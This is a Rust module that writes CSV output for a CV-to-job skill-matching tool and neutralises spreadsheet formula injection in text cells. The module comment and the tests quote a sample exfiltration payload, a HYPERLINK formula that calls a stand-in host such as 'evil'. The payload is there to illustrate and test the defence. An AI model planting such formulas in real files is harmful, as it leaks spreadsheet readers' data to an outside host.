//! CSV output: one row per matched skill (with its best evidence sentence), per listed
//! skill, or per level of a shown skill.
//!
//! **Formula injection.** A recruiter opens these files in a spreadsheet, and a cell that
//! starts with `=`, `+`, `-` or `@` (or a tab or carriage return) is taken there for a
//! formula: a CV whose sentence reads `=HYPERLINK("http://evil/?"&A1,"click")` would run
//! in the reader's spreadsheet. Following OWASP's advice, every *text* cell (evidence,
//! names, codes, ids, file names, errors) that starts with one of those characters is
//! written with a `'` in front and in double quotes (`"'=HYPERLINK(…)"`), which
//! spreadsheets show as text. Numeric cells (ranks, levels, scores, offsets) are never
//! touched: they are written by skillmatch, not copied from a document. `--csv-raw`
//! ([`CellGuard::Raw`]) writes text cells unchanged, for programs that read the CSV.
//! Quoting otherwise follows RFC 4180: a cell holding a comma, a quote or a line break is
//! quoted, quotes doubled.

use super::{levels_label, table, IndexSummary, Render, SkillDetail, SkillSummary};
use crate::eval::EvalReport;
use crate::matching::MatchReport;
use crate::recruit::{Candidate, Comparison};
use std::borrow::Cow;
use std::io::{self, Write};

/// How text cells that a spreadsheet would read as a formula are written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum CellGuard {
    /// Prefixed with `'` and quoted (the default; see the module documentation).
    #[default]
    Neutralise,
    /// Written unchanged (`--csv-raw`), for machine consumers.
    Raw,
}

/// One cell of a record: text (guarded) or a number skillmatch formatted (never guarded).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Cell<'a> {
    /// Text that may come from a document, a file name or a framework.
    Text(&'a str),
    /// A number (or empty) formatted by skillmatch.
    Number(&'a str),
}

/// Whether a spreadsheet could take a cell starting like `text` for a formula: the
/// characters OWASP lists (`=`, `+`, `-`, `@`, tab, carriage return).
pub fn is_formula_like(text: &str) -> bool {
    matches!(text.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
}

/// The bytes of one cell as written: guarded (for [`Cell::Text`] under
/// [`CellGuard::Neutralise`]) and quoted where needed.
pub fn encode_cell(cell: Cell<'_>, guard: CellGuard) -> Cow<'_, str> {
    let (text, neutralise) = match cell {
        Cell::Text(t) => (t, guard == CellGuard::Neutralise && is_formula_like(t)),
        Cell::Number(n) => (n, false),
    };
    let special = text.bytes().any(|b| matches!(b, b',' | b'"' | b'\n' | b'\r'));
    if !neutralise && !special {
        return Cow::Borrowed(text);
    }
    let mut out = String::with_capacity(text.len() + 4);
    out.push('"');
    if neutralise {
        out.push('\'');
    }
    out.push_str(&text.replace('"', "\"\""));
    out.push('"');
    Cow::Owned(out)
}

/// A CSV writer over `W`: comma-separated, `\n` after each record, text cells guarded
/// according to its [`CellGuard`].
#[derive(Debug)]
pub struct CsvWriter<W: Write> {
    out: W,
    guard: CellGuard,
    line: String,
}

impl<W: Write> CsvWriter<W> {
    /// A writer to `out`.
    pub fn new(out: W, guard: CellGuard) -> CsvWriter<W> {
        CsvWriter { out, guard, line: String::new() }
    }

    /// Write a header row (skillmatch's own column names).
    pub fn header(&mut self, names: &[&str]) -> io::Result<()> {
        let cells: Vec<Cell<'_>> = names.iter().map(|n| Cell::Text(n)).collect();
        self.record(&cells)
    }

    /// Write one record.
    pub fn record(&mut self, cells: &[Cell<'_>]) -> io::Result<()> {
        self.line.clear();
        for (i, cell) in cells.iter().enumerate() {
            if i > 0 {
                self.line.push(',');
            }
            self.line.push_str(&encode_cell(*cell, self.guard));
        }
        // A record of one empty cell would read back as a blank line, that is no record.
        if cells.len() == 1 && self.line.is_empty() {
            self.line.push_str("\"\"");
        }
        self.line.push('\n');
        self.out.write_all(self.line.as_bytes())
    }

    /// Flush the underlying writer.
    pub fn flush(&mut self) -> io::Result<()> {
        self.out.flush()
    }

    /// The underlying writer, flushed.
    pub fn into_inner(mut self) -> io::Result<W> {
        self.out.flush()?;
        Ok(self.out)
    }
}

use Cell::{Number as N, Text as T};

/// Header of [`write_report`]'s rows.
pub const MATCH_HEADER: [&str; 12] = [
    "source",
    "rank",
    "framework",
    "code",
    "name",
    "category",
    "subcategory",
    "level",
    "score",
    "evidence",
    "evidence_start",
    "evidence_end",
];

/// A match report: one row per matched skill.
pub fn write_report(
    out: &mut dyn Write,
    report: &MatchReport,
    header: bool,
    guard: CellGuard,
) -> io::Result<()> {
    let mut w = CsvWriter::new(out, guard);
    if header {
        w.header(&MATCH_HEADER)?;
    }
    for (rank, m) in report.matches.iter().enumerate() {
        let best = m.evidence.first();
        let (rank, level, score) = (
            (rank + 1).to_string(),
            m.level.map(|l| l.to_string()).unwrap_or_default(),
            format!("{:.3}", m.score),
        );
        let start = best.map(|e| e.start.to_string()).unwrap_or_default();
        let end = best.map(|e| e.end.to_string()).unwrap_or_default();
        w.record(&[
            T(&report.source),
            N(&rank),
            T(&m.framework),
            T(&m.code),
            T(&m.name),
            T(&m.category),
            T(&m.subcategory),
            N(&level),
            N(&score),
            T(best.map_or("", |e| e.text.as_str())),
            N(&start),
            N(&end),
        ])?;
    }
    w.flush()
}

/// A skill list.
pub fn write_list(out: &mut dyn Write, skills: &[SkillSummary<'_>], guard: CellGuard) -> io::Result<()> {
    let mut w = CsvWriter::new(out, guard);
    w.header(&["framework", "code", "name", "category", "subcategory", "levels"])?;
    for s in skills {
        let levels = levels_label(&s.levels);
        w.record(&[T(s.framework), T(s.code), T(s.name), T(s.category), T(s.subcategory), N(&levels)])?;
    }
    w.flush()
}

/// Skill details: one row per level.
pub fn write_details(out: &mut dyn Write, details: &[SkillDetail<'_>], guard: CellGuard) -> io::Result<()> {
    let mut w = CsvWriter::new(out, guard);
    w.header(&["framework", "code", "name", "category", "subcategory", "level", "description"])?;
    for d in details {
        let s = &d.skill;
        for level in &s.levels {
            let number = level.level.to_string();
            w.record(&[
                T(d.framework),
                T(&s.code),
                T(&s.name),
                T(&s.category),
                T(&s.subcategory),
                N(&number),
                T(&level.description),
            ])?;
        }
    }
    w.flush()
}

/// Header of [`write_comparison`]'s rows.
pub const COMPARISON_HEADER: [&str; 15] = [
    "advert",
    "cv",
    "fit",
    "rank",
    "framework",
    "code",
    "name",
    "required_level",
    "cv_level",
    "verdict",
    "gap",
    "weight",
    "credit",
    "advert_evidence",
    "cv_evidence",
];

/// A comparison: one row per required skill (the overall fit repeated on each).
pub fn write_comparison(out: &mut dyn Write, c: &Comparison, guard: CellGuard) -> io::Result<()> {
    let mut w = CsvWriter::new(out, guard);
    w.header(&COMPARISON_HEADER)?;
    let opt = |v: Option<u8>| v.map(|v| v.to_string()).unwrap_or_default();
    let fit = format!("{:.3}", c.fit);
    for (rank, s) in c.skills.iter().enumerate() {
        let rank = (rank + 1).to_string();
        let (required, shown, gap) = (opt(s.required_level), opt(s.cv_level), opt(s.gap));
        let (weight, credit) = (format!("{:.3}", s.weight), format!("{:.3}", s.credit));
        w.record(&[
            T(&c.advert),
            T(&c.cv),
            N(&fit),
            N(&rank),
            T(&s.framework),
            T(&s.code),
            T(&s.name),
            N(&required),
            N(&shown),
            T(s.verdict.as_str()),
            N(&gap),
            N(&weight),
            N(&credit),
            T(s.advert_evidence.first().map_or("", |e| e.text.as_str())),
            T(s.cv_evidence.first().map_or("", |e| e.text.as_str())),
        ])?;
    }
    w.flush()
}

/// Header of [`write_shortlist`]'s rows.
pub const SHORTLIST_HEADER: [&str; 13] = [
    "rank",
    "cv",
    "fit",
    "met",
    "below",
    "missing",
    "strongest_code",
    "strongest_evidence",
    "gap_code",
    "gap_verdict",
    "gap",
    "verdicts",
    "error",
];

/// A shortlist: one row per CV, failed ones with an empty rank and their error; `verdicts`
/// lists every requirement as CODE:verdict[:gap].
pub fn write_shortlist(out: &mut dyn Write, candidates: &[Candidate], guard: CellGuard) -> io::Result<()> {
    let mut w = CsvWriter::new(out, guard);
    w.header(&SHORTLIST_HEADER)?;
    for c in candidates {
        let verdicts: Vec<String> = c
            .skills
            .iter()
            .map(|s| match s.gap {
                Some(n) => format!("{}:{}:{n}", s.code, s.verdict.as_str()),
                None => format!("{}:{}", s.code, s.verdict.as_str()),
            })
            .collect();
        let scored = c.fit.is_some();
        let count = |n: usize| if scored { n.to_string() } else { String::new() };
        let rank = c.rank.map(|r| r.to_string()).unwrap_or_default();
        let fit = c.fit.map(|f| format!("{f:.3}")).unwrap_or_default();
        let (met, below, missing) = (count(c.met), count(c.below), count(c.missing));
        let strongest = c.strongest_evidence.as_ref();
        let gap = c.biggest_gap.as_ref();
        let gap_size = gap.and_then(|g| g.gap).map(|n| n.to_string()).unwrap_or_default();
        let verdicts = verdicts.join(" ");
        w.record(&[
            N(&rank),
            T(&c.id),
            N(&fit),
            N(&met),
            N(&below),
            N(&missing),
            T(strongest.map_or("", |h| h.code.as_str())),
            T(strongest.map_or("", |h| h.text.as_str())),
            T(gap.map_or("", |g| g.code.as_str())),
            T(gap.map_or("", |g| g.verdict.as_str())),
            N(&gap_size),
            T(&verdicts),
            T(c.error.as_deref().unwrap_or("")),
        ])?;
    }
    w.flush()
}

/// The `index` summary: one row per framework with its counts.
pub fn write_index_summary(
    out: &mut dyn Write,
    summary: &IndexSummary<'_>,
    guard: CellGuard,
) -> io::Result<()> {
    // Framework ids come from users' files: quoted and guarded like any CSV text.
    let mut w = CsvWriter::new(out, guard);
    w.header(&["framework", "skills", "level_descriptions", "responsibility_levels"])?;
    for f in &summary.frameworks {
        let numbers =
            [f.skills.to_string(), f.level_descriptions.to_string(), f.responsibility_levels.to_string()];
        w.record(&[
            Cell::Text(f.framework),
            Cell::Number(&numbers[0]),
            Cell::Number(&numbers[1]),
            Cell::Number(&numbers[2]),
        ])?;
    }
    w.flush()
}

/// The CSV writer; text cells guarded as `guard` says.
#[derive(Debug, Clone, Copy, Default)]
pub struct Csv {
    /// How text cells that look like formulas are written.
    pub guard: CellGuard,
}

impl Render for Csv {
    fn report(&self, out: &mut dyn Write, report: &MatchReport, _text: &str) -> io::Result<()> {
        write_report(out, report, true, self.guard)
    }

    fn skills(&self, out: &mut dyn Write, skills: &[SkillSummary<'_>], _: &[&str]) -> io::Result<()> {
        write_list(out, skills, self.guard)
    }

    fn details(&self, out: &mut dyn Write, details: &[SkillDetail<'_>]) -> io::Result<()> {
        write_details(out, details, self.guard)
    }

    fn comparison(&self, out: &mut dyn Write, c: &Comparison, _: &str, _: &str) -> io::Result<()> {
        write_comparison(out, c, self.guard)
    }

    fn shortlist(&self, out: &mut dyn Write, _: &str, candidates: &[Candidate], _: usize) -> io::Result<()> {
        write_shortlist(out, candidates, self.guard)
    }

    fn index_summary(&self, out: &mut dyn Write, summary: &IndexSummary<'_>) -> io::Result<()> {
        write_index_summary(out, summary, self.guard)
    }

    /// Metrics have no CSV shape: `eval --format csv` has always printed the table.
    fn eval(&self, out: &mut dyn Write, report: &EvalReport) -> io::Result<()> {
        table::write_eval(out, report)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn line(cells: &[Cell<'_>], guard: CellGuard) -> String {
        let mut out = Vec::new();
        CsvWriter::new(&mut out, guard).record(cells).unwrap();
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn formula_like_text_is_prefixed_and_quoted_numbers_are_not() {
        let cells = [T("=1+2"), T("+44 20"), T("-x"), T("@SUM(A1)"), T("\tx"), T("\rx"), N("-1.5"), T("a=b")];
        assert_eq!(
            line(&cells, CellGuard::Neutralise),
            "\"'=1+2\",\"'+44 20\",\"'-x\",\"'@SUM(A1)\",\"'\tx\",\"'\rx\",-1.5,a=b\n"
        );
        assert_eq!(line(&cells, CellGuard::Raw), "=1+2,+44 20,-x,@SUM(A1),\tx,\"\rx\",-1.5,a=b\n");
    }

    #[test]
    fn quoting_follows_rfc_4180_and_reads_back() {
        let cells =
            [T("=HYPERLINK(\"http://x/?\"&A1,\"go\")"), T("plain"), T("a,b"), T("line\nbreak"), T("")];
        let text = line(&cells, CellGuard::Neutralise);
        let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(text.as_bytes());
        let record = reader.records().next().unwrap().unwrap();
        let read: Vec<&str> = record.iter().collect();
        assert_eq!(read, vec!["'=HYPERLINK(\"http://x/?\"&A1,\"go\")", "plain", "a,b", "line\nbreak", ""]);
        assert_eq!(line(&[T("")], CellGuard::Raw), "\"\"\n", "a lone empty cell is still a record");
    }
}
